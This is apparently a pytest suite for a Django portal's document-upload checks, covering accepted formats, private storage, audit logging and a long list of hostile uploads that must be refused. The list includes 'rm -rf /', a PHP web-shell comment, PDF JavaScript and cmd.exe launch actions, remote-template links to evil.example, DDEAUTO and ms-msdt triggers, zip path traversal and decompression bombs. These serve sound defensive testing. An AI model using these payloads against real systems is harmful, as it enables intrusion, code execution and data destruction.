"""Evidence files: which are kept, how, and who reads them."""

import io
import os
import struct
import zipfile
import zlib
from pathlib import PurePath

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from hypothesis import given
from hypothesis import strategies as st

from exemptions import contents, documents, workflow
from exemptions.models import Document
from portal.governance import audit
from portal.governance.errors import DomainError, InvalidInput, NotAllowed
from tests.exemptions import asks

WORD = asks.office("word/document.xml")
EXCEL = asks.office("xl/workbook.xml")
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
    ' Target="{}" TargetMode="External"/></Relationships>'
)


@pytest.fixture
def exemption(cast):
    return asks.drafted(cast["rita"])


def attach(exemption, cast, name, content):
    return workflow.attach(exemption, asks.document(name, content), by=cast["rita"])


# Files as programs write them, and bent


def pdf(body=b"1 0 obj << /Type /Catalog >> endobj", after=b"\n"):
    return b"%PDF-1.7\n" + body + b"\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF" + after


def packed_pdf(inside, filters=b"/FlateDecode", name=b"/ObjStm"):
    head = b"2 0 obj << /Type " + name + b" /N 1 /First 4 /Filter " + filters + b" >> stream\n"
    return pdf(head + zlib.compress(inside) + b"\nendstream endobj")


def chunk(kind, body=b""):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width=1, height=1, more=b"", after=b""):
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(b"\x00\x7f"))
    return contents.PNG_START + header + more + pixels + chunk(b"IEND") + after


def jpeg(width=1, height=1, more=b"", end=b"\xff\xd9"):
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    scan = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00" + b"\x12\xff\x00\x34"
    return b"\xff\xd8" + more + frame + scan + end


def comment(text):
    return b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text


def relation(kind, target, where="word/_rels/document.xml.rels"):
    return asks.office(**{where: RELATIONS.format(kind, target).encode()})


def with_entry(bend, name="word/more.xml", content=b"<more/>"):
    """A document with one entry more, which is bent before it is written."""
    stored = io.BytesIO(WORD)
    with zipfile.ZipFile(stored, "a", zipfile.ZIP_DEFLATED) as archive:
        entry = zipfile.ZipInfo(name)
        bend(entry)
        archive.writestr(entry, content)
    return stored.getvalue()


def encrypted():
    """Every entry says that it needs a password."""
    bent = bytearray(WORD)
    for start, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = bent.find(start)
        while at >= 0:
            bent[at + flags] |= 1
            at = bent.find(start, at + 1)
    return bytes(bent)


def lying():
    """A member that unpacks to more than the directory says."""
    big = asks.office(**{"word/media/picture.png": b"\x01" * 500_000})
    return big.replace(struct.pack("<I", 500_000), struct.pack("<I", 5))


def packed_otherwise(entry):
    entry.compress_type = zipfile.ZIP_BZIP2


def linked(entry):
    entry.external_attr = 0o120777 << 16


@pytest.mark.parametrize(
    ("name", "content", "called"),
    [
        ("statement.pdf", pdf(), "application/pdf"),
        ("opens-on-page-2.pdf", pdf(b"<< /OpenAction [ 3 0 R /Fit ] >>"), "application/pdf"),
        ("packed.pdf", packed_pdf(b"1 0 << /Type /Catalog >>"), "application/pdf"),
        ("signed-twice.pdf", pdf() + pdf(), "application/pdf"),
        ("screen.png", png(1920, 1080), "image/png"),
        ("described.png", png(more=chunk(b"tEXt", b"Software\x00Tool")), "image/png"),
        ("scan.JPEG", jpeg(1240, 1754), "image/jpeg"),
        ("photo.jpg", jpeg(more=comment(b"taken at noon")), "image/jpeg"),
        ("note.txt", "Loses 3 of 10 messages – measured twice.\r\n\t".encode(), "text/plain"),
        ("with-mark.txt", "\ufeffGrün".encode(), "text/plain"),
        ("letter.docx", WORD, documents.KINDS[".docx"]),
        ("hosts.xlsx", EXCEL, documents.KINDS[".xlsx"]),
        ("v1.2 of 3.4.pdf", pdf(), "application/pdf"),
        ("linked.docx", relation("hyperlink", "https://vendor.example/notice"), documents.KINDS[".docx"]),
        (
            "printed.xlsx",
            asks.office("xl/workbook.xml", **{"xl/printerSettings/printerSettings1.bin": b"\x01\x02"}),
            documents.KINDS[".xlsx"],
        ),
        ("picture.docx", asks.office(**{"word/media/image1.png": png()}), documents.KINDS[".docx"]),
    ],
)
def test_these_kinds_are_kept(exemption, cast, name, content, called):
    document = attach(exemption, cast, name, content)
    assert (document.name, document.content_type, document.size) == (name, called, len(content))
    assert documents.read(document, by=cast["rita"]) == content


HOSTILE = [
    # what they are called
    ("run.exe", b"MZ\x90\x00", "type"),
    ("page.html", b"<script>alert(1)</script>", "type"),
    ("picture.svg", b"<svg onload='alert(1)'/>", "type"),
    ("macros.docm", WORD, "type"),
    ("no ending", pdf(), "type"),
    ("", pdf(), "type"),
    ("statement.pdf.exe", pdf(), "type"),
    ("statement.exe.pdf", pdf(), "name"),
    ("statement.html.txt", b"text", "name"),
    ("invoice\u202efdp.pdf", pdf(), "name"),
    ("\u2067statement\u2069.pdf", pdf(), "name"),
    ("line\r\nbreak.pdf", pdf(), "name"),
    ("cut.exe\x00.pdf", pdf(), "name"),
    ("a" * 197 + ".pdf", pdf(), "name"),
    ("CON.pdf", pdf(), "name"),
    ("lpt1 .txt", b"text", "name"),
    # what they say that they are
    ("empty.pdf", b"", "empty"),
    ("statement.pdf", b"MZ\x90\x00 a program", "content"),
    ("statement.pdf", b"\n" + pdf(), "content"),
    ("screen.png", pdf(), "content"),
    ("picture.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "content"),
    ("scan.jpg", b"<html><script>alert(1)</script>", "content"),
    ("scan.jpg", png(), "content"),
    ("program.txt", b"MZ\x90\x00\x03", "content"),
    ("page.txt", b"  <!DOCTYPE html><script>alert(1)</script>", "content"),
    ("script.txt", b"#!/bin/sh\nrm -rf /", "content"),
    ("note.txt", b"text" * 1000 + b"\x00\x01", "content"),
    ("note.txt", "Grün".encode("latin-1"), "content"),
    ("note.txt", "Text".encode("utf-16"), "content"),
    ("terminal.txt", b"\x1b]0;owned\x07", "content"),
    # PDF
    ("script.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "content"),
    ("escaped.pdf", pdf(b"<< /S /J#61vaScript /JS (app.alert(1)) >>"), "content"),
    ("starts.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "content"),
    ("carries.pdf", pdf(b"<< /Names << /EmbeddedFiles 3 0 R >> >>"), "content"),
    ("carries-one.pdf", pdf(b"<< /Type /EmbeddedFile >>"), "content"),
    ("opens.pdf", pdf(b"<< /OpenAction 5 0 R >>"), "content"),
    ("opens-at-once.pdf", pdf(b"<< /OpenAction<</S/URI>> >>"), "content"),
    ("form.pdf", pdf(b"<< /XFA [ 1 0 R ] >>"), "content"),
    ("sends.pdf", pdf(b"<< /S /SubmitForm >>"), "content"),
    ("media.pdf", pdf(b"<< /Subtype /RichMedia >>"), "content"),
    ("elsewhere.pdf", pdf(b"<< /S /GoToR /F (//host/share) >>"), "content"),
    ("secret.pdf", pdf(b"<< /Encrypt 9 0 R >>"), "content"),
    ("link.pdf", pdf(b"<< /S /URI /URI (javascript:alert(1)) >>"), "content"),
    ("hidden.pdf", packed_pdf(b"1 0 << /S /JavaScript >>"), "content"),
    ("hidden-name.pdf", packed_pdf(b"1 0 << /S /JavaScript >>", name=b"/Obj#53tm"), "content"),
    ("hidden-twice.pdf", packed_pdf(b"x", b"[ /FlateDecode /ASCIIHexDecode ]"), "content"),
    ("unpackable.pdf", pdf(b"2 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\nxx"), "content"),
    ("page.pdf", pdf(b"<html><script>alert(1)</script></html>"), "content"),
    ("archive.pdf", pdf(WORD), "content"),
    ("goes-on.pdf", pdf() + WORD, "content"),
    ("cut.pdf", pdf()[:40], "content"),
    # pictures
    ("cut.png", png()[:-6], "content"),
    ("damaged.png", png().replace(b"IDAT", b"IDAX"), "content"),
    ("no-pixels.png", contents.PNG_START + chunk(b"IEND"), "content"),
    ("bomb.png", png(60_000, 60_000), "content"),
    ("one-line.png", png(1, 1_000_000), "content"),
    ("nothing.png", png(0, 1), "content"),
    ("archive.png", png(after=WORD), "content"),
    ("archive-inside.png", png(more=chunk(b"zzZz", WORD)), "content"),
    ("page.png", png(more=chunk(b"tEXt", b"a\x00<script>alert(1)</script>")), "content"),
    ("cut.jpg", jpeg(end=b""), "content"),
    ("only-start.jpg", b"\xff\xd8\xff\xe0", "content"),
    ("no-pixels.jpg", b"\xff\xd8\xff\xd9", "content"),
    ("one-line.jpg", jpeg(65_000, 1), "content"),
    ("bomb.jpg", jpeg(65_000, 65_000), "content"),
    ("archive.jpg", jpeg() + WORD, "content"),
    ("page.jpg", jpeg(more=comment(b"<?php system($_GET[0]); ?>")), "content"),
    # Word and Excel
    ("letter.docx", b"PK\x03\x04 cut short", "content"),
    ("letter.docx", WORD[:-30], "content"),
    ("letter.docx", EXCEL, "content"),
    ("hosts.xlsx", WORD, "content"),
    ("goes-on.docx", WORD + b"<script>", "content"),
    ("begins-before.docx", b"PK\x03\x04" + WORD, "content"),
    ("macros.docx", asks.office(**{"word/vbaProject.bin": b"macro"}), "content"),
    ("renamed-docm.docx", asks.office(**{"docProps/x.xml": b"application/vnd.macroEnabled"}), "content"),
    ("old-macros.xlsx", asks.office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": b"<a/>"}), "content"),
    ("object.docx", asks.office(**{"word/embeddings/oleObject1.bin": contents.OLE}), "content"),
    ("disguised.docx", asks.office(**{"word/media/image1.png": contents.OLE + b"..."}), "content"),
    ("program.docx", asks.office(**{"word/media/image1.png": b"MZ\x90\x00"}), "content"),
    ("control.docx", asks.office(**{"word/activeX/activeX1.xml": b"<a/>"}), "content"),
    ("carries.docx", asks.office(**{"word/run.exe": b"x"}), "content"),
    ("template.docx", relation("attachedTemplate", "https://evil.example/t.dotm"), "content"),
    ("picture-outside.docx", relation("image", "https://evil.example/p.png"), "content"),
    ("share.docx", relation("hyperlink", "file://evil/share"), "content"),
    ("handler.docx", relation("hyperlink", "ms-msdt:/id"), "content"),
    ("fetches.docx", asks.office(**{"word/more.xml": b"<w:instrText>DDEAUTO c:\\\\cmd"}), "content"),
    ("entity.docx", asks.office(**{"word/more.xml": b'<!DOCTYPE a [<!ENTITY b "b">]><a/>'}), "content"),
    ("other-letters.docx", asks.office(**{"word/more.xml": "<a/>".encode("utf-16")}), "content"),
    ("no-links.docx", asks.office(**{"word/_rels/x.rels": b"<a"}), "content"),
    ("leads-out.docx", asks.office(**{"../../etc/cron.xml": b"<a/>"}), "content"),
    ("leads-out-inside.docx", asks.office(**{"word/../../x.xml": b"<a/>"}), "content"),
    ("absolute.docx", asks.office(**{"/etc/x.xml": b"<a/>"}), "content"),
    ("drive.docx", asks.office(**{"C:/x.xml": b"<a/>"}), "content"),
    ("backslash.docx", asks.office(**{"word\\x.xml": b"<a/>"}), "content"),
    ("linked.docx", with_entry(linked), "content"),
    ("two-faced.docx", asks.office(**{"word/Document.xml": b"<other/>"}), "content"),
    ("secret.docx", encrypted(), "content"),
    ("other-packing.docx", with_entry(packed_otherwise), "content"),
    ("bomb.docx", asks.office(**{"word/media/zeros.png": b"\x00" * 5_000_000}), "content"),
    ("lying.docx", lying(), "content"),
]


@pytest.mark.parametrize(("name", "content", "code"), HOSTILE, ids=[ascii(one[0])[:40] for one in HOSTILE])
def test_a_hostile_file_is_refused(name, content, code):
    upload = SimpleUploadedFile("x", content)
    upload._name = name  # past Django's own cleaning, as another door might
    with pytest.raises(InvalidInput) as raised:
        documents.raise_unless_allowed(upload)
    assert [(one.field, one.code) for one in raised.value.problems] == [("document", code)]
    assert "{" not in str(raised.value)


def test_there_are_more_than_thirty_hostile_files_of_every_kind_that_is_kept():
    """By content, each other than the rest, under an ending that would be taken."""
    by_content = {(PurePath(name).suffix, content) for name, content, code in HOSTILE if code == "content"}
    assert len(by_content) > 30
    assert {suffix for suffix, _ in by_content} == set(documents.KINDS)


def test_what_is_refused_is_not_stored(exemption, cast):
    with pytest.raises(InvalidInput):
        attach(exemption, cast, "script.pdf", pdf(b"<< /S /JavaScript >>"))
    assert not Document.objects.exists()


def test_a_document_over_the_limit_is_refused_with_both_figures(exemption, cast, settings):
    settings.DOCUMENT_MAX_BYTES = 2000
    assert attach(exemption, cast, "fits.txt", b"x" * 2000)
    with pytest.raises(InvalidInput, match="has 2,001 bytes; at most 2,000 are kept"):
        attach(exemption, cast, "big.txt", b"x" * 2001)


def test_a_bomb_is_refused_without_being_unpacked(exemption, cast, monkeypatch):
    monkeypatch.setattr(contents, "MOST_UNPACKED", 1_000_000)
    bomb = asks.office(**{"word/media/zeros.png": b"\x00" * 1_000_001})
    assert len(bomb) < 5_000
    with pytest.raises(InvalidInput, match="unpacks to more"):
        attach(exemption, cast, "bomb.docx", bomb)


def test_too_many_members_are_counted_before_the_file_is_opened(exemption, cast, monkeypatch):
    monkeypatch.setattr(zipfile, "ZipFile", None)
    crowd = WORD + contents.DIRECTORY_ENTRY * (contents.MOST_MEMBERS + 1)
    with pytest.raises(InvalidInput, match="unpacks to more"):
        attach(exemption, cast, "crowd.docx", crowd)


@given(cut=st.integers(0, len(WORD) - 1), byte=st.integers(0, 255))
def test_a_damaged_office_file_is_refused_or_kept_and_never_an_error(cut, byte):
    damaged = WORD[:cut] + bytes([byte]) + WORD[cut + 1 :]
    refused = False
    try:
        documents.raise_unless_allowed(SimpleUploadedFile("letter.docx", damaged))
    except InvalidInput:
        refused = True
    assert not refused or damaged != WORD


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\rita\\statement.pdf", "statement.pdf"),
        ("Screen at 10.00\u202fAM.pdf", "Screen at 10.00AM.pdf"),
        ("Erklärung des Herstellers.pdf", "Erklärung des Herstellers.pdf"),
    ],
)
def test_a_name_is_kept_for_people_and_never_becomes_a_path(exemption, cast, sent, kept):
    upload = asks.document()
    upload._name = sent  # past Django's own cleaning, as another door might
    document = workflow.attach(exemption, upload, by=cast["rita"])
    assert document.name == kept
    assert document.file.name.startswith("exemptions/")
    assert "pdf" not in document.file.name


@pytest.mark.parametrize("spooled", [False, True])
def test_files_lie_private(exemption, cast, spooled):
    upload = asks.document()
    if spooled:  # what a large upload arrives as
        upload = TemporaryUploadedFile("large.pdf", "application/pdf", len(pdf()), None)
        upload.write(pdf())
        upload.flush()
        os.chmod(upload.temporary_file_path(), 0o644)
    path = workflow.attach(exemption, upload, by=cast["rita"]).file.path
    upload.close()

    assert path.startswith(str(settings.MEDIA_ROOT))
    assert os.stat(path).st_mode & 0o777 == 0o600
    assert os.stat(os.path.dirname(path)).st_mode & 0o777 == 0o700


def test_the_same_content_is_not_attached_twice(exemption, cast):
    attach(exemption, cast, "first.pdf", pdf(b"same"))
    with pytest.raises(InvalidInput, match="attached already, as “first.pdf”"):
        attach(exemption, cast, "second.pdf", pdf(b"same"))


def test_at_most_ten_documents_are_kept(exemption, cast):
    for number in range(documents.MOST_DOCUMENTS):
        attach(exemption, cast, f"{number}.pdf", pdf(b"%d" % number))
    with pytest.raises(InvalidInput, match="At most 10 documents"):
        attach(exemption, cast, "eleventh.pdf", pdf(b"eleventh"))


def test_a_teams_documents_share_a_room(exemption, cast, settings):
    settings.DOCUMENTS_TEAM_MAX_BYTES = 3000
    attach(exemption, cast, "first.txt", b"1" * 2000)
    other = asks.drafted(cast["rita"], list(exemption.instances.all()))
    with pytest.raises(InvalidInput, match="have 2,000 of 3,000 bytes already"):
        attach(other, cast, "second.txt", b"2" * 1001)
    attach(other, cast, "second.txt", b"2" * 1000)


def test_what_a_renewal_carries_over_takes_no_room_again(exemption, cast, settings):
    settings.DOCUMENTS_TEAM_MAX_BYTES = 3000
    attach(exemption, cast, "first.txt", b"1" * 2000)
    other = asks.drafted(cast["rita"], list(exemption.instances.all()))
    documents.carry_over(exemption, other, ["first.txt"])
    attach(other, cast, "second.txt", b"2" * 1000)


def test_every_reading_is_on_record(exemption, cast):
    document = attach(exemption, cast, "statement.pdf", pdf())
    for name in ("omar", "axel"):
        documents.read(document, by=cast[name])
    readings = audit.timeline(exemption).filter(action="exemptions.document.read")
    assert [(entry.actor.username, entry.detail["name"]) for entry in readings] == [
        ("omar", "statement.pdf"),
        ("axel", "statement.pdf"),
    ]


@pytest.mark.parametrize("name", ["noor", "adam"])
def test_who_may_not_see_the_exemption_reads_nothing(exemption, cast, name):
    document = attach(exemption, cast, "statement.pdf", pdf())
    with pytest.raises(NotAllowed):
        documents.read(document, by=cast[name])


@pytest.mark.parametrize("damage", ["changed", "gone"])
def test_a_file_that_is_no_longer_the_one_uploaded_is_not_handed_out(exemption, cast, damage):
    document = attach(exemption, cast, "statement.pdf", pdf())
    if damage == "gone":
        os.unlink(document.file.path)
    else:
        with open(document.file.path, "wb") as stored:
            stored.write(b"%PDF-1.7 and more")
    with pytest.raises(DomainError, match="its digest differs"):
        documents.read(document, by=cast["axel"])
    assert audit.timeline(exemption).filter(action="exemptions.document.damaged").count() == 1


def test_a_zip_with_a_broken_name_is_refused(exemption, cast):
    broken = io.BytesIO(WORD.replace(b"word/document.xml", b"word/docum\xff\xfet.xml"))
    with pytest.raises(InvalidInput):
        attach(exemption, cast, "letter.docx", broken.getvalue())
